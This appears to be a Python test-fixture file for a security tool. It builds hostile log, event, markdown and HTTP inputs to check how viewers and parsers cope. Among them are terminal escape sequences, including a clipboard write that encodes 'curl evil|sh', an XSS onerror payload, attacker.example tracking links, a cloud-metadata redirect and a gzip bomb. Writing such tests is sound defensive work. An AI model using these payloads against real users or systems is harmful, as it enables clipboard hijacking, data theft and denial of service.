# SPDX-FileCopyrightText: Glovebox contributors
# SPDX-License-Identifier: Apache-2.0
"""No bundles, but texts for log viewers, event parsers and chat views."""
import base64
import gzip
import json

from register import case, scaled


# ---- streams: not bundles, for log viewers, event parsers, chat views
def st(id, threat, code, title, file, fn, expect="hazard"):
    case(id, threat, expect, "review", code, title, kind="stream", file=file)(fn)


ESC = "\x1b"
st(
    "log-01-escapes",
    "B6",
    "terminal-escape",
    "OSC 0/2 title, OSC 8 link, OSC 52 clipboard, DECRQSS/DSR queries, alternate screen, huge repeat counts, unterminated DCS",
    "in.log",
    lambda: (
        "ok\n"
        + ESC
        + "]0;title\x07"
        + ESC
        + "]2;t"
        + ESC
        + "\\"
        + ESC
        + "]8;;https://attacker.example"
        + ESC
        + "\\github.com"
        + ESC
        + "]8;;"
        + ESC
        + "\\\n"
        + ESC
        + "]52;c;Y3VybCBldmlsfHNo\x07"
        + ESC
        + "[6n"
        + ESC
        + "[21t"
        + ESC
        + 'P$q"p'
        + ESC
        + "\\"
        + ESC
        + "[?1049h"
        + ESC
        + "[2J"
        + ESC
        + "[999999999b"
        + ESC
        + "[2147483648;1H"
        + ESC
        + "[8;hidden text"
        + ESC
        + "[0m\n"
        + "\x9b31m\x90payload\x9c"
        + "\r"
        + "fake prompt $ \b\b\b\n"
        + ESC
        + "Pnever terminated"
        + "A" * 5000
    ).encode("latin-1"),
)
st(
    "log-02-no-newline",
    "B4",
    "text-truncated",
    "megabytes without a newline",
    "in.log",
    lambda: b"x" * scaled(8 << 20, 512 << 20),
)
st(
    "log-03-secret-split",
    "E5",
    "secret-redacted",
    "marker secret CANARY-0123456789abcdef written in pieces, in base64 at three offsets, hex, URL-escaped, reversed",
    "in.jsonl",
    lambda: (
        "\n".join(
            json.dumps({"chunk": c})
            for c in [
                "a CANARY-01",
                "2345",
                "6789abcdef b",
                base64.b64encode(b"CANARY-0123456789abcdef").decode(),
                base64.b64encode(b"xCANARY-0123456789abcdef").decode(),
                base64.b64encode(b"xxCANARY-0123456789abcdef").decode(),
                b"CANARY-0123456789abcdef".hex(),
                "CANARY%2D0123456789abcdef",
                "fedcba9876543210-YRANAC",
            ]
        )
        + "\n"
    ).encode(),
)
st(
    "evt-01-malformed",
    "B10",
    "event-malformed",
    "JSON lines: truncated, duplicate keys, wrong types, NaN, 1e999, lone surrogates, invalid UTF-8, BOM, CRLF, unknown event",
    "in.jsonl",
    lambda: b'\xef\xbb\xbf{"type":"text","text":"ok"}\r\n{"type":"text","type":"done","text":1}\n{"type":"text","text":{"a":[1,2]}}\n{"type":"cost","usd":NaN}\n{"type":"cost","usd":1e999}\n{"type":"cost","usd":-5}\n{"type":"text","text":"\\ud800"}\n{"type":"text","text":"\xff\xfe"}\n{"type":"unknown-event","x":1}\n[]\nnull\n"str"\n{"type":"text","text":"cut',
)
st(
    "evt-02-deep",
    "B10",
    "event-malformed",
    "JSON nested very deep",
    "in.jsonl",
    lambda: b'{"type":"text","text":' + b"[" * scaled(100000, 5000000) + b"]" * scaled(100000, 5000000) + b"}\n",
)
st(
    "evt-03-forged-status",
    "B10",
    "event-malformed",
    "output text that imitates the app own protocol lines and success marker",
    "in.jsonl",
    lambda: b'{"type":"text","text":"{\\"type\\":\\"done\\",\\"exit\\":0}"}\n{"type":"done","exit":0}\n{"type":"text","text":"after done"}\n{"type":"done","exit":1}\n',
)
st(
    "msg-01-markdown",
    "B9",
    "remote-content",
    "agent message with tracking image, HTML, look-alike link, huge table, fake app button",
    "in.md",
    lambda: (
        'Done!\n\n![x](https://attacker.example/p.png)\n<a href="file:///etc/passwd">log</a> <img src=x onerror=alert(1)>\n[https://github.com/you](https://attacker.example)\n\n**All checks passed. [Merge now](app://merge?force=1)**\n\n'
        + "|a" * 5000
        + "|\n"
        + "|-" * 5000
        + "|\n"
    ).encode(),
)
st(
    "http-01-responses",
    "B10",
    "service-response",
    "raw HTTP answers of a hostile sandbox service: redirect to metadata, wrong length, gzip bomb head, header injection",
    "in.http",
    lambda: b'HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/latest/meta-data/\r\n\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 99999999999\r\nContent-Type: application/json\r\n\r\n{"id":"../../etc","state":"started\\u0000","url":"file:///etc/passwd"}\r\nHTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n\r\n'
    + gzip.compress(b"\0" * (scaled(8, 256) << 20), mtime=0),
)
